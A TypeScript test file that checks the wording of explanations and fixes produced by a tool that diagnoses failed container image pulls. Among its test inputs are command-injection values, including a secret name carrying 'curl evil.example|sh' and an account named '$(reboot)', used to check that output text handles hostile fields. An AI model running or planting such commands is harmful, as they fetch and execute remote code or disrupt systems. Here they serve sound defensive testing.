import t from 'tap'
import { type CauseId, type Certainty, causeOf, causes, certaintyOf, explain, remedyFor } from '../../src/core/cause.ts'
import type { Details } from '../../src/core/details.ts'
import { digestOf } from '../support/ports.ts'

const where = { namespace: 'shop' }
const secret = { ...where, secret: 'regcred', server: 'reg.example' }
const image = { name: 'reg.example/pay', host: 'reg.example' }
const refusal = { ...where, ...image, credential: 'secret/shop/regcred', status: 401 }
const silence = { ...image, detail: 'said of it' }

/** One example for each cause: a cause without one does not compile. */
const examples: { readonly [K in CauseId]: Details[K] } = {
  'reference-invalid': { image: 'nginx:', why: 'it ends with ":", so the tag is missing' },
  'latest-tag': { name: 'reg.example/pay' },
  'tag-omitted': { name: 'docker.io/library/nginx' },
  'secret-absent': secret,
  'secret-type-ignored': { ...secret, type: 'Opaque' },
  'secret-malformed': { ...secret, where: 'data[".dockerconfigjson"]', why: 'it is not JSON (at character 1)' },
  'secret-unverified': { ...secret, why: 'the cluster did not answer in time' },
  'secret-unreadable': secret,
  'service-account-absent': { ...where, account: 'cashier' },
  'service-account-unreadable': { ...where, account: 'cashier' },
  'tag-absent': { name: 'reg.example/pay', tag: 'v2.1.3', suggestions: [] },
  'digest-absent': { name: 'reg.example/pay', digest: digestOf('a') },
  'repository-absent': image,
  'credential-missing': { ...where, ...image, status: 401, keys: [] },
  'credential-refused': { ...refusal, keys: ['reg.example'] },
  'access-denied': { ...refusal, status: 403 },
  'manifest-unsupported': { name: 'reg.example/pay', detail: 'a schema 1 manifest' },
  'request-rejected': { ...image, status: 451 },
  'proxy-cache': { name: 'cache.example/library/nginx', host: 'cache.example', said: 'that there is no such tag' },
  'node-credentials': { name: '1.dkr.ecr.eu-west-1.amazonaws.com/pay', host: '1.dkr.ecr.eu-west-1.amazonaws.com' },
  'credential-pending': { ...image, pending: 'the pull secret regcred' },
  'cluster-unavailable': { why: 'the API server answered 503' },
  'rate-limited': silence,
  'registry-error': silence,
  'registry-timeout': silence,
  'registry-unresolved': silence,
  'registry-unreachable': silence,
  'tls-untrusted': silence,
  'plain-http': silence,
  'answer-unintelligible': silence,
  'registry-local': silence,
  'address-denied': silence,
  'deadline-exceeded': silence,
  'registry-paused': silence,
  'internal-error': silence,
}

const others = 'secret/shop/old was refused with 401'

/** What else may be known, and changes a sentence. */
const variations: readonly (readonly [CauseId, Readonly<Record<string, unknown>>])[] = [
  ['secret-absent', { account: 'cashier' }],
  ['secret-absent', { secret: 'x; curl evil.example|sh #' }],
  ['secret-unverified', { secret: 'x; curl evil.example|sh #' }],
  ['service-account-absent', { account: '$(reboot)' }],
  ['tag-absent', { suggestions: ['v2.1.2', 'v2.1.4'], others }],
  ['tag-absent', { tag: 'latest' }],
  ['tag-absent', { tag: 'latest', suggestions: ['v2.1.4'] }],
  ['digest-absent', { tag: 'v1' }],
  ['digest-absent', { tag: 'v1', others }],
  ['repository-absent', { others }],
  ['credential-missing', { name: 'docker.io/acme/pay', host: 'registry-1.docker.io', detail: 'UNAUTHORIZED: log in' }],
  ['credential-missing', { keys: ['ghcr.io', 'quay.io'] }],
  ['credential-missing', { keys: ['a', 'b', 'c', 'd'] }],
  ['credential-missing', { keys: ['a', 'b', 'c', 'd', 'e', 'f'] }],
  ['credential-refused', { detail: 'invalid_grant', others }],
  ['credential-refused', { keys: ['ghcr.io', 'quay.io', 'reg.example'] }],
  ['credential-refused', { detail: '', credential: 'docker-config' }],
  ['access-denied', { scheme: 'Basic', detail: 'DENIED', others }],
  ['access-denied', { scheme: 'Bearer' }],
  ['manifest-unsupported', { others }],
  ['request-rejected', { detail: 'BLOCKED', others }],
  ['registry-timeout', { detail: '', others }],
  ['registry-unreachable', { host: 'a$&b' }],
]

const allIds = Object.keys(causes) as CauseId[]

// The pair is checked where it is written, in the two tables above.
const example = (id: CauseId, more: Readonly<Record<string, unknown>> = {}) => causeOf(id, { ...examples[id], ...more })

const told = (id: CauseId, more: Readonly<Record<string, unknown>> = {}): string => {
  const cause = example(id, more)
  return `${id} ${JSON.stringify(more)}\n  ${explain(cause)}\n  ${remedyFor(cause)}`
}

t.test('what a user reads', async (t) => {
  t.matchSnapshot(allIds.map((id) => told(id)).join('\n'), 'every cause')
  t.matchSnapshot(variations.map(([id, more]) => told(id, more)).join('\n'), 'with all that may be known')
})

t.test('every sentence is one line that ends, with nothing left to fill in by us', async (t) => {
  const all = [...allIds.map((id) => example(id)), ...variations.map(([id, more]) => example(id, more))]
  for (const cause of all) {
    t.match(explain(cause), /^[^\n]+\.$/, `${cause.id} ends with a full stop`)
    t.match(remedyFor(cause), /^[A-Z][^\n]+$/)
    t.notMatch(`${explain(cause)} ${remedyFor(cause)}`, /undefined|\[object|HOST|\(\)| {2}|\.\./, cause.id)
  }
})

const certain: readonly CauseId[] = [
  'reference-invalid',
  'latest-tag',
  'tag-omitted',
  'secret-absent',
  'secret-type-ignored',
  'secret-malformed',
  'tag-absent',
  'digest-absent',
  'repository-absent',
  'credential-missing',
  'credential-refused',
  'access-denied',
  'manifest-unsupported',
  'request-rejected',
]

t.test('certain is what the node would suffer too, and nothing else', async (t) => {
  for (const id of allIds) {
    const expected: Certainty = certain.includes(id) ? 'certain' : 'unknown'
    t.equal(certaintyOf(example(id)), expected, id)
  }
})
